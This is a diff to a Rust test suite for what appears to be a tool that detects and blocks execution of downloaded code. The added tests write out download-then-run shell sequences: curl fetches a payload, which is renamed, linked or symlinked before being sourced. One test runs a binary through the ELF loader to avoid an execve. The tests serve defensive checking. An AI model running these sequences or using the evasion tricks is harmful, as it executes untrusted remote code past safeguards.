@@ -113,8 +113,15 @@ fn python_copies_a_download_then_source_runs_the_copy() {
 
 #[test]
 fn python_renames_or_links_a_download_then_source_runs_it() {
-    for how in ["os.rename", "os.link"] {
-        let mv = format!(r#"python3 -c 'import os; {how}("dl.sh","ok.sh")'"#);
+    // Renamed or hard-linked: a new name for the same bytes; symlinked (by the
+    // program or by `ln -s`): the file read is the one the link points to.
+    for how in [
+        r#"python3 -c 'import os; os.rename("dl.sh","ok.sh")'"#,
+        r#"python3 -c 'import os; os.link("dl.sh","ok.sh")'"#,
+        r#"python3 -c 'import os; os.symlink("dl.sh","ok.sh")'"#,
+        "ln -s dl.sh ok.sh",
+    ] {
+        let mv = how;
         blocked(
             &format!("curl -s {{URL}}/payload.sh -o dl.sh\n{mv}\nsource ok.sh"),
             FLOW,
@@ -241,6 +248,39 @@ fn a_program_starts_an_interpreter_on_a_downloaded_script() {
         );
         ran_payload(&a, &r);
     }
+}
+
+#[test]
+fn a_program_runs_a_tainted_binary_through_the_elf_loader() {
+    // `ld.so ./prog` runs `prog` without an execve of it: the loader's file
+    // arguments are code, like an interpreter's script.
+    let loader = "/lib64/ld-linux-x86-64.so.2";
+    if !std::path::Path::new(loader).exists() {
+        return;
+    }
+    let copy = |read: &str| {
+        format!(r#"python3 -c 'import shutil; {read}shutil.copy("/usr/bin/true", "bin/prog")'"#)
+    };
+    let run = format!(r#"python3 -c 'import os; os.execv("{loader}", ["ld", "bin/" + "prog"])'"#);
+    let a = arena();
+    refused(
+        &a,
+        &format!(
+            "mkdir bin\ncurl -s {{URL}}/payload.sh -o dl.sh\n{}\n{run}",
+            copy(r#"open("dl.sh").read(); "#)
+        ),
+        FLOW,
+    );
+    // The control: built from nothing downloaded, it runs.
+    let a = arena();
+    benign(
+        &a,
+        &format!(
+            "mkdir bin\ncurl -s {{URL}}/payload.sh -o dl.sh\n{}\n{run}",
+            copy("")
+        ),
+        None,
+    );
 }
 
 #[test]
